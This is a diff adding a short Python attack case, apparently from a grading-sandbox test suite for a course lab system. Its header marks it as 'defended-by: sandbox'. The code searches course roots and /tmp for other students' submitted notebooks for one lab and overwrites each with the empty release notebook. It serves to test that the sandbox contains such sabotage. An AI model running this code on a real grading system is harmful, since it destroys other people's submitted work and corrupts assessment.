@@ -1,0 +1,23 @@
+# attack: overwrite every other submission of this lab with the empty release
+# defended-by: sandbox
+# sandbox-only: it searches /tmp, where the fallback keeps its scratch courses
+import glob
+import os
+import shutil
+
+import lab_utils
+
+_here = os.getcwd()
+_roots = {os.environ.get("DTLABS_COURSE_ROOT", ""), os.path.dirname(os.path.dirname(lab_utils.__file__)),
+          os.path.abspath(os.path.join(_here, "..", "..", "..")), "/tmp"}
+_release = None
+for _root in _roots:
+    _release = _release or next(iter(glob.glob(os.path.join(_root, "**", "labs", "01_ddp_setup", "01_ddp_setup.ipynb"),
+                                               recursive=True)), None)
+for _root in _roots:
+    for _nb in glob.glob(os.path.join(_root, "**", "submitted", "*", "01_ddp_setup", "01_ddp_setup.ipynb"), recursive=True):
+        try:
+            shutil.copy(_release, _nb)
+            print("overwrote", _nb)
+        except (OSError, TypeError) as _exc:
+            print("could not overwrite", _nb, _exc)
